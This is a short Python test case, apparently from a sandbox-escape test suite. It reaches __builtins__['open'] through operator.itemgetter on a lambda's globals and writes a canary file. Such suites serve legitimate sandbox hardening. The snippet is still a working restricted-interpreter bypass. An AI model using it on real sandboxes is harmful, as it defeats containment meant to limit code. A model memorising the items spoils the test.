# id: 509
# name: itemgetter_of_globals
# category: interpreter
# technique: operator.itemgetter on the globals of a function
# breach: file
# looks_like: CANARY_FILE is created
# imports: operator
# baseline: inproc
import operator
f = lambda: 0
operator.itemgetter('__builtins__')(f.__globals__)['open'](CANARY_FILE, 'w').write('x')
